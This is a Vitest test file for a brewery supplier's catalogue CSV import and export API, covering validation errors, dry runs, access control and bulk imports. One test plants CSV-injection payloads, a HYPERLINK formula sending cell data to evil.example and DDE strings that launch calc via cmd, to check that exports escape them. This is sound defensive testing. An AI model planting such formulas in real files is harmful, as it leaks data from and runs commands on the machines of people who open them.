import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { CATALOGUE_CSV_COLUMNS, CatalogueImportReport, CatalogueProduct, CatalogueProductList, type CsvIssue } from '@tapline/contracts';
import { createMembership, createProduct, createSupplier } from '@tapline/db/testing';
import { apiCaller, signedInUser } from '../../../test/support/auth-kit';
import { parseAnswer, parseError } from '../../../test/support/parse-answer';
import { createTestApp, type TestApp } from '../../../test/support/test-app';
import { catalogueRowCounts, catalogueSnapshot } from '../../../test/support/queries/catalogue-testing.queries';

type Person = Awaited<ReturnType<typeof signedInUser>>;
let t: TestApp;
let member: Person;
let rival: Person;
let supplier: Awaited<ReturnType<typeof createSupplier>>;
let rivalSupplier: Awaited<ReturnType<typeof createSupplier>>;

const call = apiCaller(() => t);
const mine = (path = '') => `/api/suppliers/${supplier.slug}${path}`;

type Row = Partial<Record<(typeof CATALOGUE_CSV_COLUMNS)[number], string>>;
const keg = (code: string, over: Row = {}): Row => ({
  product_slug: '',
  product_name: 'Import Pale',
  style: 'Pale Ale',
  description: 'Bright',
  tags: 'hoppy|sessionable',
  abv: '4.8',
  ibu: '35',
  origin: 'Sydney, NSW',
  product_status: 'draft',
  sku_code: code,
  sku_name: '50 L keg',
  units_per_pack: '1',
  volume_ml: '50000',
  price: '289.00',
  tax_rate: '10',
  sku_status: 'active',
  stock_on_hand: '',
  ...over,
});

/** A file as the browser sends it: papaparse's header and rows. */
function file(rows: Row[], columns: string[] = [...CATALOGUE_CSV_COLUMNS]) {
  return { columns, rows: rows.map((row) => Object.fromEntries(columns.map((column) => [column, row[column as keyof Row] ?? '']))) };
}

const importing = (body: Record<string, unknown>, person: Person = member) => call(person, 'POST', mine('/products/import'), body);

const newProduct = async (body: Record<string, unknown>) =>
  parseAnswer(await call(member, 'POST', mine('/products'), body), 201, CatalogueProduct);
const newSku = async (productId: string, body: Record<string, unknown>) => {
  const response = await call(member, 'POST', `/api/products/${productId}/skus`, body);
  expect(response.statusCode, response.body).toBe(201);
};

/** A refused import: 400 naming each problem by line and column, and the database as it was. */
async function expectRefusedImport(body: Record<string, unknown>, expected: CsvIssue[]) {
  const before = await catalogueSnapshot(t.database.db, supplier.id);
  const counts = await catalogueRowCounts(t.database.db);
  const dryRun = parseAnswer(await importing({ ...body, dryRun: true }), 200, CatalogueImportReport);
  expect(dryRun.issues).toEqual(expect.arrayContaining(expected.map((issue) => expect.objectContaining(issue))));
  expect(dryRun.committed).toBe(false);
  const error = parseError((await importing({ ...body, dryRun: false })) as never, 400);
  const report = CatalogueImportReport.parse(error.details);
  expect(report.issues).toEqual(dryRun.issues);
  expect(error.message).toMatch(/nothing was imported/i);
  expect(await catalogueSnapshot(t.database.db, supplier.id)).toEqual(before);
  expect(await catalogueRowCounts(t.database.db)).toEqual(counts);
  return report;
}

beforeAll(async () => {
  t = await createTestApp({ listen: true });
  const db = t.database.db;
  supplier = await createSupplier(db, { name: 'Csv Brewing', slug: 'csv-brewing' });
  rivalSupplier = await createSupplier(db, { name: 'Other Brewing', slug: 'other-brewing' });
  [member, rival] = [await signedInUser(t), await signedInUser(t)];
  for (const person of [member, rival]) await call(person, 'GET', '/api/me');
  await createMembership(db, { organisationId: supplier.id, userId: member.userId, organisationRole: 'member' });
  await createMembership(db, { organisationId: rivalSupplier.id, userId: rival.userId, organisationRole: 'owner' });
});
afterAll(async () => {
  await t.close();
});

describe('template and export', () => {
  it('the template has the header and a keg and a can pack, and imports as it is', async () => {
    const response = await call(member, 'GET', mine('/products/template.csv'));
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.headers['content-disposition']).toMatch(/attachment; filename="catalogue-template.csv"/);
    const parsed = Papa.parse<Record<string, string>>(response.body.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
    expect(parsed.meta.fields).toEqual([...CATALOGUE_CSV_COLUMNS]);
    expect(parsed.data.map((row) => row.sku_name)).toEqual(['50 L keg', '16 × 375 mL cans']);
    const report = parseAnswer(
      await importing({ columns: parsed.meta.fields, rows: parsed.data, dryRun: true }),
      200,
      CatalogueImportReport,
    );
    expect(report).toMatchObject({
      validRows: 2,
      invalidRows: 0,
      issues: [],
      products: { created: 1, updated: 0 },
      skus: { created: 2, updated: 0 },
    });
  });

  it('export gives one row per SKU; importing it back changes nothing but versions and creates nothing', async () => {
    const imported = parseAnswer(
      await importing({
        ...file([
          keg('EXP-KEG', { product_name: 'Export Lager', tags: 'crisp|lager', stock_on_hand: '7' }),
          keg('EXP-CAN', {
            product_name: 'Export Lager',
            tags: 'crisp|lager',
            sku_name: '24 × 375 mL',
            units_per_pack: '24',
            volume_ml: '375',
            price: '68.5',
          }),
        ]),
        dryRun: false,
      }),
      200,
      CatalogueImportReport,
    );
    expect(imported).toMatchObject({ committed: true, products: { created: 1, updated: 0 }, skus: { created: 2, updated: 0 } });
    const response = await call(member, 'GET', mine('/products/export.csv'));
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toMatch(/filename="csv-brewing-catalogue.csv"/);
    const parsed = Papa.parse<Record<string, string>>(response.body.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
    const lager = parsed.data.filter((row) => row.product_name === 'Export Lager');
    expect(lager).toEqual([
      expect.objectContaining({
        product_slug: 'export-lager',
        sku_code: 'EXP-KEG',
        price: '289.00',
        tax_rate: '10',
        tags: 'crisp|lager',
        abv: '4.8',
        stock_on_hand: '7',
        volume_ml: '50000',
      }),
      expect.objectContaining({
        product_slug: 'export-lager',
        sku_code: 'EXP-CAN',
        price: '68.50',
        units_per_pack: '24',
        stock_on_hand: '',
      }),
    ]);
    const again = parseAnswer(
      await importing({ columns: parsed.meta.fields, rows: parsed.data, dryRun: false }),
      200,
      CatalogueImportReport,
    );
    expect(again.products.created).toBe(0);
    expect(again.skus.created).toBe(0);
    const product = parseAnswer(await call(member, 'GET', mine('/products/export-lager')), 200, CatalogueProduct);
    expect(product).toMatchObject({ name: 'Export Lager', tags: ['crisp', 'lager'], abv: 4.8, version: 2 });
    expect(product.skus.map((sku) => [sku.code, sku.unitPriceCents, sku.stockOnHand])).toEqual([
      ['EXP-KEG', 28900, 7],
      ['EXP-CAN', 6850, null],
    ]);
  });

  it('text that a spreadsheet would run as a formula is exported behind a quote; numbers are not; importing the export gives back the same text', async () => {
    // a supplier member plants formulas for the owner who opens the export (OWASP CSV injection, decision 0142)
    const planted = await newProduct({
      name: '=HYPERLINK("https://evil.example/?"&A1,"Click for the price list")',
      style: '+Sour',
      description: '-1 day fresh, @ the brewery',
      origin: "@SUM(1+1)*cmd|' /C calc'!A0",
      tags: ['=1+1', 'hazy'],
    });
    const quoted = await newProduct({ name: "'=Quoted already", style: "'plain quote", description: 'Plain' });
    await newSku(planted.id, { code: 'FORMULA-1', name: "=cmd|' /C calc'!A0", unitPriceCents: 1250, stockOnHand: 4 });
    await newSku(quoted.id, { code: 'FORMULA-2', name: '-Half keg', unitPriceCents: 0 });
    const response = await call(member, 'GET', mine('/products/export.csv'));
    const parsed = Papa.parse<Record<string, string>>(response.body.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
    const row = (code: string) => parsed.data.find((cells) => cells.sku_code === code)!;
    expect(row('FORMULA-1')).toMatchObject({
      product_name: `'${planted.name}`,
      style: "'+Sour",
      description: "'-1 day fresh, @ the brewery",
      origin: `'${planted.origin!}`,
      tags: "'=1+1|hazy",
      sku_name: "'=cmd|' /C calc'!A0",
      // numbers stay numbers
      price: '12.50',
      stock_on_hand: '4',
      tax_rate: '10',
    });
    // a value that starts with a quote before a formula character gets one more, so the import can take exactly one off
    expect(row('FORMULA-2')).toMatchObject({
      product_name: "''=Quoted already",
      style: "'plain quote",
      sku_name: "'-Half keg",
      price: '0.00',
    });
    // no text cell of the file starts with a formula character
    for (const cells of parsed.data) for (const value of Object.values(cells)) expect(value).not.toMatch(/^[=+\-@\t\r]/);

    const report = parseAnswer(
      await importing({ columns: parsed.meta.fields, rows: parsed.data, dryRun: false }),
      200,
      CatalogueImportReport,
    );
    expect(report.invalidRows).toBe(0);
    const back = parseAnswer(await call(member, 'GET', mine(`/products/${planted.slug}`)), 200, CatalogueProduct);
    expect(back).toMatchObject({
      name: planted.name,
      style: '+Sour',
      description: planted.description,
      origin: planted.origin,
      tags: ['=1+1', 'hazy'],
    });
    expect(back.skus.map((sku) => sku.name)).toEqual(["=cmd|' /C calc'!A0"]);
    const backQuoted = parseAnswer(await call(member, 'GET', mine(`/products/${quoted.slug}`)), 200, CatalogueProduct);
    expect(backQuoted).toMatchObject({ name: "'=Quoted already", style: "'plain quote" });
    expect(backQuoted.skus.map((sku) => sku.name)).toEqual(['-Half keg']);
  });

  it('another supplier’s members get 404 for the export, the template and the import', async () => {
    expect((await call(rival, 'GET', mine('/products/export.csv'))).statusCode).toBe(404);
    expect((await call(rival, 'GET', mine('/products/template.csv'))).statusCode).toBe(404);
    expect((await importing(file([keg('RIVAL-1')]), rival)).statusCode).toBe(404);
    expect((await call(null, 'GET', mine('/products/export.csv'))).statusCode).toBe(401);
  });
});

describe('import', () => {
  it('creates products grouped by slug or name, then the same file again updates and creates nothing', async () => {
    const rows = [
      keg('RE-KEG', { product_name: 'Reimport IPA' }),
      keg('RE-CAN', { product_name: 'Reimport IPA', sku_name: '16 × 375 mL', units_per_pack: '16', volume_ml: '375', price: '79.50' }),
      keg('RE-STOUT', { product_name: 'Night Stout', product_slug: 'night-stout-csv', product_status: 'active', stock_on_hand: '3' }),
    ];
    const dry = parseAnswer(await importing({ ...file(rows), dryRun: true }), 200, CatalogueImportReport);
    expect(dry).toMatchObject({
      dryRun: true,
      committed: false,
      validRows: 3,
      products: { created: 2, updated: 0 },
      skus: { created: 3, updated: 0 },
    });
    expect((await call(member, 'GET', mine('/products/night-stout-csv'))).statusCode).toBe(404);

    const first = parseAnswer(await importing({ ...file(rows), dryRun: false }), 200, CatalogueImportReport);
    expect(first).toMatchObject({ committed: true, products: { created: 2, updated: 0 }, skus: { created: 3, updated: 0 } });
    const stout = parseAnswer(await call(member, 'GET', mine('/products/night-stout-csv')), 200, CatalogueProduct);
    expect(stout).toMatchObject({
      status: 'active',
      tags: ['hoppy', 'sessionable'],
      origin: 'Sydney, NSW',
      skus: [expect.objectContaining({ code: 'RE-STOUT', stockOnHand: 3, unitPriceCents: 28900, taxRateBasisPoints: 1000 })],
    });
    const ipa = parseAnswer(await call(member, 'GET', mine('/products/reimport-ipa')), 200, CatalogueProduct);
    expect(ipa.skus.map((sku) => sku.code)).toEqual(['RE-KEG', 'RE-CAN']);

    const counts = await catalogueRowCounts(t.database.db);
    const changed = rows.map((row) => (row.sku_code === 'RE-CAN' ? { ...row, price: '81' } : row));
    const second = parseAnswer(await importing({ ...file(changed), dryRun: false }), 200, CatalogueImportReport);
    expect(second).toMatchObject({ committed: true, products: { created: 0, updated: 2 }, skus: { created: 0, updated: 3 } });
    expect(await catalogueRowCounts(t.database.db)).toEqual(counts);
    const after = parseAnswer(await call(member, 'GET', mine('/products/reimport-ipa')), 200, CatalogueProduct);
    expect(after.skus.find((sku) => sku.code === 'RE-CAN')).toMatchObject({ unitPriceCents: 8100, version: 2 });
  });

  it('a column left out keeps the stored value; the others change', async () => {
    parseAnswer(
      await importing({ ...file([keg('KEEP-1', { product_name: 'Keeper', stock_on_hand: '9', description: 'Kept' })]), dryRun: false }),
      200,
      CatalogueImportReport,
    );
    const columns = ['sku_code', 'sku_name', 'price', 'product_name'];
    const report = parseAnswer(
      await importing({
        ...file([{ sku_code: 'KEEP-1', sku_name: 'Half keg', price: '150', product_name: 'Keeper' }], columns),
        dryRun: false,
      }),
      200,
      CatalogueImportReport,
    );
    expect(report).toMatchObject({ skus: { created: 0, updated: 1 }, products: { created: 0, updated: 1 } });
    const product = parseAnswer(await call(member, 'GET', mine('/products/keeper')), 200, CatalogueProduct);
    expect(product).toMatchObject({
      description: 'Kept',
      skus: [expect.objectContaining({ name: 'Half keg', unitPriceCents: 15000, stockOnHand: 9, volumeMl: 50000 })],
    });
  });

  it('a missing column is named on the header line and nothing is written', async () => {
    const columns = CATALOGUE_CSV_COLUMNS.filter((column) => column !== 'price');
    const report = await expectRefusedImport(file([keg('MISS-1')], columns), [
      { row: 1, field: 'price', message: 'the column price is missing' },
    ]);
    expect(report.validRows).toBe(0);
  });

  it('a price of "abc", a negative price, a duplicate code and a tag with a comma are each named by line and column; nothing is written', async () => {
    const rows = [
      keg('BAD-OK'),
      keg('BAD-ABC', { price: 'abc' }),
      keg('BAD-NEG', { price: '-5.00' }),
      keg('BAD-OK'),
      keg('BAD-TAG', { product_name: 'Comma Tag', tags: 'hazy, juicy|pale' }),
      keg('BAD-ABV', { product_name: 'Strong', abv: '120' }),
    ];
    const report = await expectRefusedImport(file(rows), [
      { row: 3, field: 'price', message: expect.stringContaining('"abc" is not a price') as unknown as string },
      { row: 4, field: 'price', message: 'must not be negative' },
      { row: 5, field: 'sku_code', message: expect.stringContaining('also on line 2') as unknown as string },
      { row: 6, field: 'tags', message: 'a tag must not contain a comma' },
      { row: 7, field: 'abv', message: 'must be at most 99.9' },
    ]);
    expect(report).toMatchObject({ totalRows: 6, validRows: 1, invalidRows: 5 });
  });

  it('units per pack, volume or stock below zero are named by line and column, on new and stored SKUs alike; nothing is written', async () => {
    parseAnswer(
      await importing({ ...file([keg('QTY-STORED', { product_name: 'Stored Qty', stock_on_hand: '5' })]), dryRun: false }),
      200,
      CatalogueImportReport,
    );
    const rows = [
      keg('QTY-UNITS', { product_name: 'Qty Ale', units_per_pack: '-1' }),
      keg('QTY-ZERO', { product_name: 'Qty Ale', units_per_pack: '0' }),
      keg('QTY-VOL', { product_name: 'Qty Ale', volume_ml: '-375' }),
      keg('QTY-STOCK', { product_name: 'Qty Ale', stock_on_hand: '-2' }),
      keg('QTY-STORED', { product_name: 'Stored Qty', stock_on_hand: '-1' }),
    ];
    const report = await expectRefusedImport(file(rows), [
      { row: 2, field: 'units_per_pack', message: 'must be at least 1' },
      { row: 3, field: 'units_per_pack', message: 'must be at least 1' },
      { row: 4, field: 'volume_ml', message: 'must be at least 1' },
      { row: 5, field: 'stock_on_hand', message: 'must not be negative' },
      { row: 6, field: 'stock_on_hand', message: 'must not be negative' },
    ]);
    expect(report).toMatchObject({ totalRows: 5, validRows: 0, invalidRows: 5 });
    const stored = parseAnswer(await call(member, 'GET', mine('/products/stored-qty')), 200, CatalogueProduct);
    expect(stored.skus.map((sku) => [sku.code, sku.stockOnHand])).toEqual([['QTY-STORED', 5]]);
  });

  it('a slug another supplier holds is refused on that row', async () => {
    await createProduct(t.database.db, { supplierId: rivalSupplier.id, slug: 'rival-only-ale', name: 'Rival Only Ale' });
    await expectRefusedImport(file([keg('SLUG-1', { product_slug: 'rival-only-ale' })]), [
      { row: 2, field: 'product_slug', message: expect.stringContaining('another supplier') as unknown as string },
    ]);
  });

  it('onlyValid writes the valid rows and reports the others', async () => {
    const counts = await catalogueRowCounts(t.database.db);
    const rows = [
      keg('ONLY-1', { product_name: 'Only Valid' }),
      keg('ONLY-2', { product_name: 'Only Valid', price: 'abc' }),
      keg('ONLY-3', { product_name: 'Only Valid', sku_name: 'Can', price: '2.5' }),
    ];
    const report = parseAnswer(await importing({ ...file(rows), dryRun: false, onlyValid: true }), 200, CatalogueImportReport);
    expect(report).toMatchObject({
      committed: true,
      validRows: 2,
      invalidRows: 1,
      issues: [expect.objectContaining({ row: 3, field: 'price' })],
      skus: { created: 2, updated: 0 },
    });
    const product = parseAnswer(await call(member, 'GET', mine('/products/only-valid')), 200, CatalogueProduct);
    expect(product.skus.map((sku) => [sku.code, sku.unitPriceCents])).toEqual([
      ['ONLY-1', 28900],
      ['ONLY-3', 250],
    ]);
    expect(await catalogueRowCounts(t.database.db)).toMatchObject({ products: counts.products + 1, skus: counts.skus + 2 });
  });

  it('refuses more rows than the limit, naming the limit', async () => {
    const error = parseError((await importing({ ...file([]), rows: Array.from({ length: 10_001 }, () => ({})) })) as never, 400);
    expect(JSON.stringify(error.details)).toContain('at most 10000 rows');
  });

  it('imports 2,000 rows in one go', async () => {
    const rows = Array.from({ length: 2000 }, (_, index) => keg(`BULK-${index}`, { product_name: `Bulk Beer ${Math.floor(index / 4)}` }));
    const started = performance.now();
    const report = parseAnswer(await importing({ ...file(rows), dryRun: false }), 200, CatalogueImportReport);
    console.log(`imported 2000 rows in ${Math.round(performance.now() - started)} ms`);
    expect(report).toMatchObject({
      committed: true,
      validRows: 2000,
      products: { created: 500, updated: 0 },
      skus: { created: 2000, updated: 0 },
    });
    const list = parseAnswer(await call(member, 'GET', mine('/catalogue?q=Bulk%20Beer&pageSize=1')), 200, CatalogueProductList);
    expect(list.total).toBe(500);
  });
});
